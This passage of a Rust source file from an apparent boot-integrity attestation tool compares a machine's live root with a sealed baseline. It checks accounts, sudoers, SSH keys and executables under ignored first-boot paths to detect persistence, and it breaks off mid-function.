//! What may change between the bake and the first boot, judged by meaning.
//!
//! `bakeproof verify --level files` compares the live root with the attested
//! SBOM. A few paths legitimately change at first boot; ignoring them
//! wholesale would hide persistence (a uid-0 line in `/etc/passwd`, a key in
//! `/root/.ssh/authorized_keys`, an executable under `/var/lib/systemd`).
//! This module replaces "ignore" with rules:
//!
//! * [`Baseline::of_root`] records, at seal time, the bake-time facts the
//!   rules need (accounts, groups, sudoers drop-ins, the cloud-init default
//!   user, the executables/scripts/units already present under the ignored
//!   paths). It travels in the signed seal report.
//! * [`judge`] applies the rules to the live root at boot: accounts, groups,
//!   `sudoers.d`, `authorized_keys` (only the keys the instance was given),
//!   the new default user's home (copies of `/etc/skel` only), and under
//!   every ignored path no new executable, script, ELF object, systemd unit,
//!   cron entry, preload library or device node. Ignored paths are walked
//!   with `lstat` and at most the first 4 bytes of each file are read: their
//!   contents are never hashed (except a suspicious file the baseline
//!   records, to prove it unchanged).
//!
//! Rules and the reason for each ignored path: docs/boot.md.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::io::Read;
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;

use bakeproof_index::{FileKind, ReadOnlyTree, Root};
use bakeproof_types::Sha256Digest;
use globset::{GlobBuilder, GlobSet, GlobSetBuilder};
use rustix::fs::{AtFlags, Mode, OFlags};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// Paths the first-boot comparison ignores by default: not scanned, not
/// hashed, only walked for [`judge`]'s state rule. Each is a real first-boot
/// change of a Debian 12 or Amazon Linux 2023 image (glob, why).
pub const DEFAULT_IGNORED: &[(&str, &str)] = &[
    (
        "/tmp/**",
        "scratch space (tmpfs on Amazon Linux 2023; cloud-init and systemd-tmpfiles write here)",
    ),
    (
        "/var/tmp/**",
        "scratch space kept across reboots (systemd private tmp directories)",
    ),
    (
        "/run/**",
        "tmpfs mounted at boot; in the image only the empty mount point",
    ),
    ("/var/log/**", "journal, cloud-init.log, wtmp, lastlog"),
    (
        "/var/cache/**",
        "ldconfig aux-cache, dnf makecache (Amazon Linux), man-db",
    ),
    (
        "/var/lib/cloud/**",
        "cloud-init's per-instance state (instance id, datasource, semaphores)",
    ),
    (
        "/var/lib/systemd/**",
        "random-seed, timer stamps, journal catalog",
    ),
    ("/var/lib/dhcp/**", "dhclient leases (Debian with ifupdown)"),
    (
        "/var/lib/apt/lists/**",
        "apt-daily.timer (Persistent=) runs apt update at first boot (Debian)",
    ),
    ("/etc/machine-id", "generated at first boot by systemd"),
    ("/var/lib/dbus/machine-id", "D-Bus copy of the machine id"),
    (
        "/etc/ssh/ssh_host_*",
        "host keys generated at first boot (the ssh-host-keys check proves them new)",
    ),
    ("/etc/hostname", "cloud-init set_hostname"),
    (
        "/etc/hosts",
        "cloud-init update_etc_hosts (manage_etc_hosts)",
    ),
    ("/etc/resolv.conf", "DHCP / systemd-resolved"),
    (
        "/etc/netplan/50-cloud-init.yaml",
        "cloud-init network rendering (Debian 12 netplan)",
    ),
    (
        "/etc/network/interfaces.d/50-cloud-init",
        "cloud-init network rendering (Debian with ifupdown)",
    ),
    (
        "/etc/systemd/network/10-cloud-init-*.network",
        "cloud-init network rendering (systemd-networkd)",
    ),
    (
        "/etc/subuid",
        "useradd gives the cloud-init default user a subordinate uid range",
    ),
    ("/etc/subuid-", "backup written by useradd"),
    (
        "/etc/subgid",
        "useradd gives the cloud-init default user a subordinate gid range",
    ),
    ("/etc/subgid-", "backup written by useradd"),
];

/// Paths whose content changes at first boot and that [`judge`] checks by
/// meaning (so the digest comparison leaves them to it).
pub const JUDGED: &[&str] = &[
    "/etc/passwd",
    "/etc/passwd-",
    "/etc/shadow",
    "/etc/shadow-",
    "/etc/group",
    "/etc/group-",
    "/etc/gshadow",
    "/etc/gshadow-",
    "/etc/sudoers.d/90-cloud-init-users",
];

/// The sudoers drop-in cloud-init writes for its users.
pub const CLOUD_INIT_SUDOERS: &str = "90-cloud-init-users";

/// systemd unit suffixes.
const UNIT_SUFFIXES: &[&str] = &[
    ".service",
    ".socket",
    ".timer",
    ".path",
    ".mount",
    ".automount",
    ".swap",
    ".target",
    ".slice",
];

/// Directory names under which a file is a cron or at job.
const CRON_DIRS: &[&str] = &[
    "cron", "crontabs", "cron.d", "atjobs", "at", "incron", "incron.d",
];

/// Account and configuration files larger than this are not parsed.
const TEXT_LIMIT: u64 = 4 << 20;
/// A suspicious file larger than this is not hashed (never proven unchanged).
const HASH_LIMIT: u64 = 64 << 20;
/// Entries walked under the ignored paths, at most.
const WALK_LIMIT: usize = 1_000_000;
/// Directory depth walked, at most.
const DEPTH_LIMIT: usize = 64;

/// Errors that prevent a judgement.
#[derive(Debug, thiserror::Error)]
pub enum FirstbootError {
    #[error("invalid ignored-path glob {glob:?}: {source}")]
    Glob {
        glob: String,
        source: globset::Error,
    },
    #[error("cannot open root {path}: {source}")]
    Root {
        path: String,
        source: std::io::Error,
    },
    /// The ignored paths are walked on a directory root only.
    #[error("{0}: ignored paths not walked (not a directory root)")]
    NotADirectory(String),
}

/// How an account's password stands (`/etc/shadow`, else `/etc/passwd`).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Password {
    /// `!`, `*` or `x` without a shadow line: no password login.
    Locked,
    /// A hash: password login possible.
    Set,
    /// Empty field: login without a password.
    Empty,
}

/// One `/etc/passwd` line.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Account {
    pub name: String,
    pub uid: u32,
    pub gid: u32,
    pub home: String,
    pub shell: String,
    /// The shell accepts a login (not nologin/false; empty means /bin/sh).
    pub login: bool,
    pub password: Password,
}

/// One `/etc/group` line (and its `/etc/gshadow` password state).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Group {
    pub name: String,
    pub gid: u32,
    pub members: Vec<String>,
    pub password: Password,
}

/// A file in `/etc/sudoers.d`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct SudoersDropIn {
    pub name: String,
    /// Hex SHA-256; `None` when unreadable.
    pub sha256: Option<String>,
}

/// An executable, script, ELF object, unit, cron entry, library or device
/// found under an ignored path.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct StateEntry {
    pub path: String,
    /// `file`, `symlink`, `char-device`, `block-device`.
    pub kind: String,
    /// Permission bits, 4 octal digits.
    pub mode: String,
    /// Why it is suspicious: `executable`, `setuid`, `script`, `elf`,
    /// `unit`, `cron`, `library`, `device`.
    pub reasons: Vec<String>,
    /// Regular files: hex SHA-256 (`None` above 64 MiB or unreadable).
    pub sha256: Option<String>,
    /// Symlinks: the target.
    pub target: Option<String>,
}

/// The bake-time facts first-boot changes are judged against (the seal
/// report's `baseline`).
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Baseline {
    pub accounts: Vec<Account>,
    pub groups: Vec<Group>,
    pub sudoers_d: Vec<SudoersDropIn>,
    /// `system_info: default_user: name:` of `/etc/cloud/cloud.cfg` and
    /// `cloud.cfg.d/*.cfg` (the last file that names one wins, as in
    /// cloud-init; a top-level `user:` overrides it).
    pub default_user: Option<String>,
    /// Suspicious entries already present under [`DEFAULT_IGNORED`].
    pub state: Vec<StateEntry>,
    /// What could not be read or parsed at seal time; non-empty means the
    /// baseline cannot prove anything (the boot check fails).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub incomplete: Vec<String>,
}

/// One thing [`judge`] found.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Finding {
    pub path: String,
    /// Stable kind: `uid-0`, `account-added`, `account-changed`,
    /// `account-removed`, `group-added`, `group-changed`, `group-removed`,
    /// `sudoers`, `authorized-key`, `home`, `state`, `unreadable`,
    /// `baseline`.
    pub kind: &'static str,
    pub detail: String,
}

/// The outcome of [`judge`].
#[derive(Clone, Debug, Default)]
pub struct Judgement {
    pub findings: Vec<Finding>,
    /// Files the rules judged (accepted or not), which the digest
    /// comparison should leave to them: [`JUDGED`], the `authorized_keys`
    /// files, the new default user's home.
    pub judged: Vec<String>,
    /// Entries walked under the ignored paths.
    pub walked: usize,
}

impl Baseline {
    /// The baseline of a root about to be sealed (never fails: what cannot be
    /// read lands in `incomplete`).
    pub fn of_root(root: &dyn ReadOnlyTree) -> Baseline {
        let mut incomplete = Vec::new();
        let (accounts, groups) = read_accounts(root, &mut incomplete);
        let sudoers_d = read_sudoers_d(root, &mut incomplete);
        let default_user = cloud_init_default_user(root, &mut incomplete);
        let globs: Vec<String> = DEFAULT_IGNORED.iter().map(|(g, _)| g.to_string()).collect();
        let walked = match root.as_directory_root() {
            Some(dir) => walk_ignored(dir, &globs, |_| true),
            // An image read in user space: the same walk through the
            // tree's own reads (it has no mounts to stop at).
            None => walk_ignored_tree(root, &globs),
        };
        let state = match walked {
            Ok(w) => {
                if w.overflow {
                    incomplete.push(format!(
                        "more than {WALK_LIMIT} entries under the ignored paths"
                    ));
                }
                w.found
            }
            Err(e) => {
                incomplete.push(e.to_string());
                Vec::new()
            }
        };
        Baseline {
            accounts,
            groups,
            sudoers_d,
            default_user,
            state,
            incomplete,
        }
    }
}

fn text(root: &dyn ReadOnlyTree, path: &str, incomplete: &mut Vec<String>) -> Option<String> {
    match root.read_file(path.as_bytes(), TEXT_LIMIT) {
        Ok(b) => Some(String::from_utf8_lossy(&b).into_owned()),
        Err(e) if e.is_not_found() => None,
        Err(e) => {
            incomplete.push(e.to_string());
            None
        }
    }
}

fn password_state(field: &str) -> Password {
    if field.is_empty() {
        Password::Empty
    } else if field.starts_with('!') || field.starts_with('*') {
        Password::Locked
    } else {
        Password::Set
    }
}

fn is_login_shell(shell: &str) -> bool {
    !bakeproof_inventory::NOLOGIN_SHELLS.contains(&shell)
}

/// `(name, fields)` of the `:`-separated lines of an account file; other
/// lines are reported in `bad`.
fn colon_lines<'a>(text: &'a str, n: usize, bad: &mut Vec<String>) -> Vec<Vec<&'a str>> {
    let mut out = Vec::new();
    for l in text.lines() {
        if l.trim().is_empty() || l.starts_with('#') {
            continue;
        }
        let f: Vec<&str> = l.split(':').collect();
        if f.len() < n || f[0].is_empty() {
            bad.push(l.chars().take(80).collect());
            continue;
        }
        out.push(f);
    }
    out
}

/// Accounts and groups of a root; unreadable files and malformed lines go to
/// `problems`.
fn read_accounts(
    root: &dyn ReadOnlyTree,
    problems: &mut Vec<String>,
) -> (Vec<Account>, Vec<Group>) {
    let passwd = text(root, "/etc/passwd", problems).unwrap_or_default();
    let shadow = text(root, "/etc/shadow", problems).unwrap_or_default();
    let group = text(root, "/etc/group", problems).unwrap_or_default();
    let gshadow = text(root, "/etc/gshadow", problems).unwrap_or_default();
    let mut bad = Vec::new();
    let shadow_pw: BTreeMap<&str, &str> = colon_lines(&shadow, 2, &mut bad)
        .into_iter()
        .map(|f| (f[0], f[1]))
        .collect();
    let gshadow_pw: BTreeMap<&str, &str> = colon_lines(&gshadow, 2, &mut bad)
        .into_iter()
        .map(|f| (f[0], f[1]))
        .collect();
    let mut accounts = Vec::new();
    for f in colon_lines(&passwd, 7, &mut bad) {
        let (Ok(uid), Ok(gid)) = (f[2].parse::<u32>(), f[3].parse::<u32>()) else {
            bad.push(format!("/etc/passwd: {}: uid or gid not a number", f[0]));
            continue;
        };
        let pw = match (f[1], shadow_pw.get(f[0])) {
            ("x", Some(s)) => password_state(s),
            ("x", None) => Password::Locked,
            (p, _) => password_state(p),
        };
        let shell = f[6].to_string();
        accounts.push(Account {
            name: f[0].to_string(),
            uid,
            gid,
            home: f[5].to_string(),
            login: is_login_shell(&shell),
            shell,
            password: pw,
        });
    }
    let mut groups = Vec::new();
    for f in colon_lines(&group, 4, &mut bad) {
        let Ok(gid) = f[2].parse::<u32>() else {
            bad.push(format!("/etc/group: {}: gid not a number", f[0]));
            continue;
        };
        let pw = match (f[1], gshadow_pw.get(f[0])) {
            (_, Some(s)) => password_state(s),
            ("x", None) | ("!", None) | ("*", None) => Password::Locked,
            // An empty field in /etc/group without gshadow: no password (newgrp
            // then refuses non-members).
            ("", None) => Password::Locked,
            (p, None) => password_state(p),
        };
        let mut members: Vec<String> = f[3]
            .split(',')
            .map(str::trim)
            .filter(|m| !m.is_empty())
            .map(String::from)
            .collect();
        members.sort();
        members.dedup();
        groups.push(Group {
            name: f[0].to_string(),
            gid,
            members,
            password: pw,
        });
    }
    problems.extend(
        bad.into_iter()
            .map(|l| format!("malformed account line: {l}")),
    );
    (accounts, groups)
}

fn read_sudoers_d(root: &dyn ReadOnlyTree, problems: &mut Vec<String>) -> Vec<SudoersDropIn> {
    let names = match root.read_dir(b"/etc/sudoers.d") {
        Ok(n) => n,
        Err(e) if e.is_not_found() => return Vec::new(),
        Err(e) => {
            problems.push(e.to_string());
            return Vec::new();
        }
    };
    names
        .into_iter()
        .map(|n| {
            let name = String::from_utf8_lossy(&n).into_owned();
            let mut p = b"/etc/sudoers.d/".to_vec();
            p.extend_from_slice(&n);
            SudoersDropIn {
                name,
                sha256: root
                    .read_file(&p, TEXT_LIMIT)
                    .ok()
                    .map(|b| Sha256Digest::of(&b).to_string()),
            }
        })
        .collect()
}

/// The name cloud-init gives its default user, from the image's
/// configuration (`/etc/cloud/cloud.cfg`, then `cloud.cfg.d/*.cfg` in name
/// order, later files overriding earlier ones).
pub fn cloud_init_default_user(
    root: &dyn ReadOnlyTree,
    problems: &mut Vec<String>,
) -> Option<String> {
    let mut files = vec!["/etc/cloud/cloud.cfg".to_string()];
    if let Ok(names) = root.read_dir(b"/etc/cloud/cloud.cfg.d") {
        files.extend(
            names
                .iter()
                .map(|n| String::from_utf8_lossy(n).into_owned())
                .filter(|n| n.ends_with(".cfg"))
                .map(|n| format!("/etc/cloud/cloud.cfg.d/{n}")),
        );
    }
    let mut name = None;
    for f in files {
        let Some(t) = text(root, &f, problems) else {
            continue;
        };
        match default_user_of_yaml(&t) {
            Ok(Some(n)) => name = Some(n),
            Ok(None) => {}
            Err(e) => problems.push(format!("{f}: {e}")),
        }
    }
    name
}

/// `system_info.default_user.name`, overridden by a top-level `user:`
/// (a name, or a mapping with `name`), of one cloud-init YAML document.
pub fn default_user_of_yaml(text: &str) -> Result<Option<String>, String> {
    use serde_norway::Value;
    if text.trim().is_empty() {
        return Ok(None);
    }
    let v: Value = serde_norway::from_str(text).map_err(|e| e.to_string())?;
    let name_of = |u: &Value| -> Option<String> {
        match u {
            Value::String(s) => Some(s.clone()),
            Value::Mapping(_) => u.get("name").and_then(Value::as_str).map(String::from),
            _ => None,
        }
    };
    if let Some(n) = v.get("user").and_then(name_of) {
        return Ok(Some(n));
    }
    Ok(v.get("system_info")
        .and_then(|s| s.get("default_user"))
        .and_then(|d| d.get("name"))
        .and_then(Value::as_str)
        .map(String::from))
}

// ---------------------------------------------------------------- the walk

struct Walked {
    found: Vec<StateEntry>,
    count: usize,
    overflow: bool,
}

fn glob_set(globs: &[String]) -> Result<GlobSet, FirstbootError> {
    let mut b = GlobSetBuilder::new();
    for g in globs {
        b.add(
            GlobBuilder::new(g)
                .literal_separator(true)
                .build()
                .map_err(|source| FirstbootError::Glob {
                    glob: g.clone(),
                    source,
                })?,
        );
    }
    b.build().map_err(|source| FirstbootError::Glob {
        glob: globs.join(","),
        source,
    })
}

/// The literal directory a glob starts with (`/var/log/**` → `/var/log`,
/// `/etc/ssh/ssh_host_*` → `/etc/ssh`, `/etc/hostname` → itself).
fn literal_prefix(glob: &str) -> String {
    let mut out = String::new();
    for comp in glob.split('/').filter(|c| !c.is_empty()) {
        if comp.contains(['*', '?', '[', '{', '\\']) {
            break;
        }
        out.push('/');
        out.push_str(comp);
    }
    if out.is_empty() { "/".into() } else { out }
}

/// Walks every ignored path (globs starting with `/`) with `lstat`, never
/// following a symlink nor crossing a mount, and returns the suspicious
/// entries. `hash` says which suspicious regular files to hash.
/// Where the walks of the ignored paths start: the literal prefix of each
/// glob, a prefix inside another dropped (walked once).
fn walk_prefixes(globs: &[String]) -> Vec<String> {
    let mut prefixes: Vec<String> = globs.iter().map(|g| literal_prefix(g)).collect();
    prefixes.sort();
    prefixes.dedup();
    prefixes
        .iter()
        .filter(|p| {
            !prefixes
                .iter()
                .any(|q| q != *p && (q == "/" || p.starts_with(&format!("{q}/"))))
        })
        .cloned()
        .collect()
}

fn walk_ignored(
    root: &Root,
    globs: &[String],
    hash: impl Fn(&str) -> bool,
) -> Result<Walked, FirstbootError> {
    let globs: Vec<String> = globs
        .iter()
        .filter(|g| g.starts_with('/'))
        .cloned()
        .collect();
    let set = glob_set(&globs)?;
    let rootfd = rustix::fs::open(
        root.host_path(),
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| FirstbootError::Root {
        path: root.host_path().display().to_string(),
        source: e.into(),
    })?;
    let prefixes = walk_prefixes(&globs);
    let mut w = Walker {
        set: &set,
        dev: root.dev(),
        hash: &hash,
        out: Walked {
            found: Vec::new(),
            count: 0,
            overflow: false,
        },
        seen: BTreeSet::new(),
    };
    for p in &prefixes {
        w.start(&rootfd, p);
    }
    Ok(w.out)
}

struct Walker<'a> {
    set: &'a GlobSet,
    dev: u64,
    hash: &'a dyn Fn(&str) -> bool,
    out: Walked,
    seen: BTreeSet<String>,
}

impl Walker<'_> {
    fn start(&mut self, rootfd: &OwnedFd, prefix: &str) {
        let comps: Vec<&str> = prefix.split('/').filter(|c| !c.is_empty()).collect();
        let Some((last, parents)) = comps.split_last() else {
            self.dir(rootfd, "", 0, false);
            return;
        };
        let mut fd = match rustix::io::dup(rootfd) {
            Ok(fd) => fd,
            Err(_) => return,
        };
        let mut path = String::new();
        for c in parents {
            path.push('/');
            path.push_str(c);
            match open_dir(&fd, c) {
                Some(d) => fd = d,
                // Not there, not a directory, a symlink: nothing is
                // stored below it (the scan records the entry itself).
                None => return,
            }
        }
        path.push('/');
        path.push_str(last);
        self.entry(&fd, last.as_bytes(), path, 0, false);
    }

    fn dir(&mut self, fd: &OwnedFd, path: &str, depth: usize, covered: bool) {
        if depth > DEPTH_LIMIT {
            self.out.overflow = true;
            return;
        }
        let Ok(dir) = rustix::fs::Dir::read_from(fd) else {
            return;
        };
        let mut names: Vec<Vec<u8>> = dir
            .filter_map(Result::ok)
            .map(|e| e.file_name().to_bytes().to_vec())
            .filter(|n| n != b"." && n != b"..")
            .collect();
        names.sort();
        for n in names {
            let p = format!("{path}/{}", String::from_utf8_lossy(&n));
            self.entry(fd, &n, p, depth + 1, covered);
        }
    }

    fn entry(&mut self, dirfd: &OwnedFd, name: &[u8], path: String, depth: usize, covered: bool) {
        if self.out.count >= WALK_LIMIT {
            self.out.overflow = true;
            return;
        }
        self.out.count += 1;
        let covered = covered || self.set.is_match(&path);
        let Ok(st) = rustix::fs::statat(dirfd, OsStr::from_bytes(name), AtFlags::SYMLINK_NOFOLLOW)
        else {
            return;
        };
        let kind = FileKind::from_mode(st.st_mode);
        if kind == FileKind::Directory {
            if st.st_dev != self.dev {
                return; // another filesystem (a tmpfs /tmp, /run): not the image
            }
            if let Some(fd) = open_dir(dirfd, &String::from_utf8_lossy(name)) {
                self.dir(&fd, &path, depth, covered);
            }
            return;
        }
        if !covered || !self.seen.insert(path.clone()) {
            return;
        }
        let mode = st.st_mode & 0o7777;
        let head = if kind == FileKind::Regular {
            read_head(dirfd, name, st.st_ino)
        } else {
            Vec::new()
        };
        let target = (kind == FileKind::Symlink)
            .then(|| rustix::fs::readlinkat(dirfd, OsStr::from_bytes(name), Vec::new()).ok())
            .flatten()
            .map(|t| String::from_utf8_lossy(t.as_bytes()).into_owned());
        let size = u64::try_from(st.st_size).unwrap_or(u64::MAX);
        let hash = |_: &str| hash_file(dirfd, name, st.st_ino);
        if let Some(e) = state_entry(path, kind, mode, size, &head, target, self.hash, hash) {
            self.out.found.push(e);
        }
    }
}

/// The state entry of one path under the ignored paths, when it is
/// suspicious (the one rule of both walks): `head` is the file's first
/// bytes, `hash` reads its SHA-256 when `want_hash` says so.
#[allow(clippy::too_many_arguments)]
fn state_entry(
    path: String,
    kind: FileKind,
    mode: u32,
    size: u64,
    head: &[u8],
    target: Option<String>,
    want_hash: &dyn Fn(&str) -> bool,
    hash: impl FnOnce(&str) -> Option<String>,
) -> Option<StateEntry> {
    let mut reasons: Vec<String> = Vec::new();
    let kind_s = match kind {
        FileKind::Regular => {
            if mode & 0o111 != 0 {
                reasons.push("executable".into());
            }
            if mode & 0o6000 != 0 {
                reasons.push("setuid".into());
            }
            if head.starts_with(b"#!") {
                reasons.push("script".into());
            }
            if head.starts_with(b"\x7fELF") {
                reasons.push("elf".into());
            }
            if is_library(&path) {
                reasons.push("library".into());
            }
            "file"
        }
        FileKind::Symlink => "symlink",
        FileKind::CharDevice => {
            reasons.push("device".into());
            "char-device"
        }
        FileKind::BlockDevice => {
            reasons.push("device".into());
            "block-device"
        }
        _ => return None, // FIFOs and sockets carry no code
    };
    if is_unit(&path, kind, i64::try_from(size).unwrap_or(i64::MAX)) {
        reasons.push("unit".into());
    }
    if is_cron(&path) && matches!(kind, FileKind::Regular | FileKind::Symlink) {
        reasons.push("cron".into());
    }
    if reasons.is_empty() {
        return None;
    }
    let sha256 = (kind == FileKind::Regular && want_hash(&path) && size <= HASH_LIMIT)
        .then(|| hash(&path))
        .flatten();
    Some(StateEntry {
        path,
        kind: kind_s.into(),
        mode: format!("{mode:04o}"),
        reasons,
        sha256,
        target: if kind == FileKind::Symlink {
            target
        } else {
            None
        },
    })
}

/// [`walk_ignored`] through a tree's own reads (an image read in user
/// space has no descriptors and no mounts): the same prefixes, the same
/// rules, parents never followed through a symlink.
fn walk_ignored_tree(tree: &dyn ReadOnlyTree, globs: &[String]) -> Result<Walked, FirstbootError> {
    let globs: Vec<String> = globs
        .iter()
        .filter(|g| g.starts_with('/'))
        .cloned()
        .collect();
    let set = glob_set(&globs)?;
    let prefixes = walk_prefixes(&globs);
    let mut w = TreeWalker {
        tree,
        set: &set,
        out: Walked {
            found: Vec::new(),
            count: 0,
            overflow: false,
        },
        seen: BTreeSet::new(),
    };
    for p in &prefixes {
        w.start(p);
    }
    Ok(w.out)
}

struct TreeWalker<'a> {
    tree: &'a dyn ReadOnlyTree,
    set: &'a GlobSet,
    out: Walked,
    seen: BTreeSet<String>,
}

impl TreeWalker<'_> {
    fn start(&mut self, prefix: &str) {
        let comps: Vec<&str> = prefix.split('/').filter(|c| !c.is_empty()).collect();
        let Some((last, parents)) = comps.split_last() else {
            self.dir("", 0, false);
            return;
        };
        let mut path = String::new();
        for c in parents {
            path.push('/');
            path.push_str(c);
            if !matches!(
                self.tree.kind_of(path.as_bytes()),
                Ok(Some(FileKind::Directory))
            ) {
                return;
            }
        }
        path.push('/');
        path.push_str(last);
        self.entry(path, 0, false);
    }

    fn dir(&mut self, path: &str, depth: usize, covered: bool) {
        if depth > DEPTH_LIMIT {
            self.out.overflow = true;
            return;
        }
        let dir = if path.is_empty() { "/" } else { path };
        let Ok(mut names) = self.tree.read_dir(dir.as_bytes()) else {
            return;
        };
        names.sort();
        for n in names {
            let p = format!("{path}/{}", String::from_utf8_lossy(&n));
            self.entry(p, depth + 1, covered);
        }
    }

    fn entry(&mut self, path: String, depth: usize, covered: bool) {
        if self.out.count >= WALK_LIMIT {
            self.out.overflow = true;
            return;
        }
        self.out.count += 1;
        let covered = covered || self.set.is_match(&path);
        let Ok(Some(kind)) = self.tree.kind_of(path.as_bytes()) else {
            return;
        };
        if kind == FileKind::Directory {
            self.dir(&path, depth, covered);
            return;
        }
        if !covered || !self.seen.insert(path.clone()) {
            return;
        }
        let (mode, size, target) = if kind == FileKind::Symlink {
            let t = self
                .tree
                .read_link(path.as_bytes())
                .ok()
                .map(|t| String::from_utf8_lossy(&t).into_owned());
            (0o777, 0, t)
        } else {
            match self.tree.metadata(path.as_bytes()) {
                Ok(m) => (m.mode, m.size, None),
                Err(_) => return,
            }
        };
        // One read gives the head and the digest (files above the hash
        // limit are not read: their head is not looked at either).
        let content = (kind == FileKind::Regular && size <= HASH_LIMIT)
            .then(|| self.tree.read_file(path.as_bytes(), HASH_LIMIT).ok())
            .flatten();
        let head = content.as_deref().map_or(&[][..], |c| &c[..c.len().min(4)]);
        let hash = |_: &str| {
            content
                .as_deref()
                .map(|c| Sha256Digest::from(<[u8; 32]>::from(Sha256::digest(c))).to_string())
        };
        if let Some(e) = state_entry(path, kind, mode, size, head, target, &|_| true, hash) {
            self.out.found.push(e);
        }
    }
}

fn open_dir(fd: &OwnedFd, name: &str) -> Option<OwnedFd> {
    rustix::fs::openat(
        fd,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .ok()
}

fn open_file(dirfd: &OwnedFd, name: &[u8], ino: u64) -> Option<std::fs::File> {
    let fd = rustix::fs::openat(
        dirfd,
        OsStr::from_bytes(name),
        OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .ok()?;
    let st = rustix::fs::fstat(&fd).ok()?;
    (FileKind::from_mode(st.st_mode) == FileKind::Regular && st.st_ino == ino)
        .then(|| std::fs::File::from(fd))
}

/// The first 4 bytes (a shebang, an ELF magic): never more.
fn read_head(dirfd: &OwnedFd, name: &[u8], ino: u64) -> Vec<u8> {
    let mut head = Vec::with_capacity(4);
    if let Some(f) = open_file(dirfd, name, ino) {
        let _ = f.take(4).read_to_end(&mut head);
    }
    head
}

fn hash_file(dirfd: &OwnedFd, name: &[u8], ino: u64) -> Option<String> {
    let f = open_file(dirfd, name, ino)?;
    let mut h = Sha256::new();
    let mut buf = vec![0u8; 64 * 1024];
    let mut r = f.take(HASH_LIMIT + 1);
    loop {
        match r.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => h.update(&buf[..n]),
            Err(_) => return None,
        }
    }
    Some(Sha256Digest::from(<[u8; 32]>::from(h.finalize())).to_string())
}

fn name_of(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn parent_components(path: &str) -> impl Iterator<Item = &str> {
    let parent = path.rsplit_once('/').map(|(p, _)| p).unwrap_or("");
    parent.split('/').filter(|c| !c.is_empty())
}

fn is_unit(path: &str, kind: FileKind, size: i64) -> bool {
    let name = name_of(path);
    if UNIT_SUFFIXES.iter().any(|s| name.ends_with(s)) {
        // systemd's timer stamps (`/var/lib/systemd/timers/stamp-*.timer`)
        // are empty marker files, not units.
        let stamp = kind == FileKind::Regular
            && size == 0
            && name.starts_with("stamp-")
            && path.contains("/systemd/timers/");
        return !stamp;
    }
    // A drop-in: `*.service.d/*.conf`.
    let parent = parent_components(path).last().unwrap_or("");
    name.ends_with(".conf")
        && UNIT_SUFFIXES
            .iter()
            .any(|s| parent.strip_suffix(".d").is_some_and(|p| p.ends_with(s)))
}

fn is_cron(path: &str) -> bool {
    parent_components(path).any(|c| CRON_DIRS.contains(&c))
}

fn is_library(path: &str) -> bool {
    let name = name_of(path);
    name == "ld.so.preload" || name.ends_with(".so") || name.contains(".so.")
}

// --------------------------------------------------------------- judging

/// Fingerprints (`SHA256:...`) of OpenSSH public key lines; unparsable
/// lines are returned apart.
pub fn key_fingerprints(lines: &[String]) -> (BTreeSet<String>, Vec<String>) {
    let mut fps = BTreeSet::new();
    let mut bad = Vec::new();
    for l in lines.iter().flat_map(|l| l.lines()) {
        let t = l.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        match crate::sshkey::parse_public_key_line(t) {
            Some(k) => {
                fps.insert(k.fingerprint);
            }
            None => bad.push(t.chars().take(60).collect()),
        }
    }
    (fps, bad)
}

/// Judges the live root against the baseline.
///
/// * `ignored`: the ignored-path globs in force (defaults and `--mutable`);
///   under them no new suspicious entry (see [`StateEntry::reasons`]) is
///   accepted, unless the baseline records it unchanged.
/// * `given_keys`: the OpenSSH public keys the instance was given (IMDS
///   `meta-data/public-keys/N/openssh-key`); every key in an
///   `authorized_keys` file must be one of them.
pub fn judge(
    root: &Root,
    baseline: &Baseline,
    ignored: &[String],
    given_keys: &[String],
) -> Result<Judgement, FirstbootError> {
    let mut j = Judgement {
        judged: JUDGED.iter().map(|s| s.to_string()).collect(),
        ..Default::default()
    };
    let f = &mut j.findings;
    for p in &baseline.incomplete {
        f.push(Finding {
            path: String::new(),
            kind: "baseline",
            detail: format!("seal-time baseline incomplete: {p}"),
        });
    }
    let mut problems = Vec::new();
    let (accounts, groups) = read_accounts(root, &mut problems);
    for p in problems {
        f.push(Finding {
            path: "/etc/passwd".into(),
            kind: "unreadable",
            detail: p,
        });
    }
    let default_user = baseline.default_user.as_deref();
    let new_default = default_user.filter(|d| !baseline.accounts.iter().any(|a| a.name == *d));
    judge_accounts(&baseline.accounts, &accounts, new_default, f);
    judge_groups(&baseline.groups, &groups, new_default, f);
    judge_sudoers(root, baseline, default_user, f);
    judge_keys(root, &accounts, given_keys, &mut j);
    if let Some(d) = new_default
        && let Some(a) = accounts.iter().find(|a| a.name == d)
    {
        judge_new_home(root, a, &mut j);
    }
    let recorded: BTreeMap<&str, &StateEntry> = baseline
        .state
        .iter()
        .map(|e| (e.path.as_str(), e))
        .collect();
    let w = walk_ignored(root, ignored, |p| {
        recorded.get(p).is_some_and(|e| e.kind == "file")
    })?;
    j.walked = w.count;
    if w.overflow {
        j.findings.push(Finding {
            path: String::new(),
            kind: "state",
            detail: format!(
                "more than {WALK_LIMIT} entries or {DEPTH_LIMIT} levels under the ignored paths: not judged"
            ),
        });
    }
    for e in w.found {
        if let Some(b) = recorded.get(e.path.as_str())
            && b.kind == e.kind
            && b.mode == e.mode
